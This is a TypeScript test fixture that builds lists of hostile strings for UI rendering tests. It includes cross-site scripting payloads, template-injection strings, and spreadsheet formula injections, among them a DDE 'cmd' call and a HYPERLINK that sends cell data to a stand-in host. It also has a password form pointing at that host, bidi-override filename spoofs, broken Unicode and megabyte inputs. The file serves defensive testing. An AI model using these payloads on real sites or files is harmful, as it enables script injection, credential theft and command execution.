import naughty from 'big-list-of-naughty-strings';

/** Code that sets `window.hostile` if anything runs it. */
const run = 'window.hostile=1';

const markup = [
  `<img src=x onerror=${run}>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><svg onload=${run}>`,
  `"><iframe srcdoc="<script>parent.hostile=1</script>">`,
  `' autofocus onfocus='${run}`,
  `<a href="javascript:${run}">a</a>`,
  `<base href="https://elsewhere.example/">`,
  `<meta http-equiv=refresh content="0;url=https://elsewhere.example/">`,
  `<style>*{display:none}</style>`,
  `<form action=https://elsewhere.example><input name=password>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<math><mtext></p><mglyph><style><!--</style><img src=x onerror=${run}>`,
  `<!--><svg onload=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `&lt;b&gt; &amp; &#x3c;b&#x3e; &nbsp;`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:msgbox(1)`,
  `https://elsewhere.example/?a=b&c=d#e`,
  `[a](javascript:${run})`,
  `![a](https://elsewhere.example/x.png)`,
];

const templates = [
  '{{constructor.constructor("window.hostile=1")()}}',
  '{{7*7}}',
  '${window.hostile=1}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{user.name}',
  '{session.token}',
  '{}',
  '}{',
  '`);window.hostile=1//',
  '%s %d %n',
  '$& $1 $$',
  '\\u003cimg src=x onerror=window.hostile=1\\u003e',
  '__proto__',
  'constructor',
];

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://elsewhere.example/?"&A1,"a")',
  'a;=1+1',
  'a\t=1+1',
  '＝1+1',
  '\u200B=1+1',
  '"=1+1"',
  '",=1+1,"',
];

/** Marks of direction, and invisible characters. */
const unseen = [
  '\u202Egnp.exe\u202C',
  'paid \u202E00.1 $',
  '\u202D\u202E\u202D\u202E open',
  '\u2066left\u2067right\u2068first',
  '\u2069\u2069\u2069 closed',
  '\u200Fright\u200E left',
  'שלום 12.50 עולם',
  'مرحبا (12) 50٪',
  'abc שלום (def)',
  'a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf',
  'so\u00ADft',
  '\u200B',
  '\u3164',
  '\u2800',
  'a\u00A0b\u2003c\u3000d',
  'line\u2028line\u2029paragraph',
  'two\nlines\r\nthree\rfour',
  'tab\tvertical\vform\fend',
  'nul\u0000end',
  'bell\u0007 escape\u001B[31m delete\u007F next\u0085',
];

/** Halves of characters, and characters of many parts. */
const characters = [
  '\uD800',
  '\uDC00',
  'a\uD83D',
  '\uDE00b',
  '\uDE00\uD83D',
  'not \uFFFE \uFFFF \u{1FFFE} characters',
  '\uFFFD',
  '\u{10FFFF}',
  '👩‍👩‍👧‍👦👨🏿‍🚀🏳️‍🌈🇮🇳🇮',
  '🇮'.repeat(99),
  '👍🏽'.repeat(99),
  '👩' + '\u200D👩'.repeat(50),
  `Z${'\u0301'.repeat(9)}a${'\u0489'.repeat(9)}l`,
  `e${'\u0301'.repeat(300)}`,
  `${'\u0E49'.repeat(40)}ก`,
  'क्ष्म्य त्र्य नमस्ते',
  '﷽﷽﷽ 𒐫𒐫𒐫 ꧅꧅ ⸻',
  'ﬃ Å Å ﬁ İ ı ß',
  'Ａｌｌ ｗｉｄｅ ｌｅｔｔｅｒｓ',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
];

/** As wide as they can be, up to as long as a text is shown whole. */
const wide = [
  'W'.repeat(200),
  'W'.repeat(10_000),
  '-'.repeat(2_000),
  '\u00A0'.repeat(2_000) + 'end',
  'https://elsewhere.example/' + 'a/'.repeat(500),
  'م'.repeat(2_000),
  '漢'.repeat(2_000),
  '😀'.repeat(2_000),
  '_x0041_ _x005F_',
];

/** Texts as a backend, an author or a member could send them, each once, none longer than is shown whole. */
export const hostileTexts: readonly string[] = [
  ...new Set([...naughty, ...markup, ...templates, ...formulas, ...unseen, ...characters, ...wide]),
].filter((text) => text !== '');

/** Those that a definition can have in all its texts: not blank, of whole characters, without controls, nor braces that would be places. */
export const writableTexts = hostileTexts.filter(
  // oxlint-disable-next-line no-control-regex -- they are not taken
  (text) => text.trim() !== '' && !/[\p{Cs}\0-\u0008\v\f\u000E-\u001F\u007F\uFFFD{}]/u.test(text),
);

const megabyte = 1_048_576;

/** Texts of a megabyte and more: of these the beginning is shown. */
export const endlessTexts: readonly string[] = [
  'W'.repeat(megabyte),
  ' \t'.repeat(megabyte / 2),
  'e\u0301'.repeat(megabyte / 2),
  `e${'\u0301'.repeat(megabyte)}`,
  '\u202E'.repeat(megabyte),
  '\u200B'.repeat(megabyte),
  '👩\u200D'.repeat(megabyte / 3),
  '\uD800'.repeat(megabyte),
  '<img src=x onerror=window.hostile=1>'.repeat(30_000),
  '=1+1;'.repeat(200_000),
];

/** Joins `count` texts each, for places that take long to show one. */
export function joinTexts(texts: readonly string[], count = 10): string[] {
  const starts = Array.from({ length: Math.ceil(texts.length / count) }, (_, part) => part * count);
  return starts.map((start) => texts.slice(start, start + count).join(' | '));
}
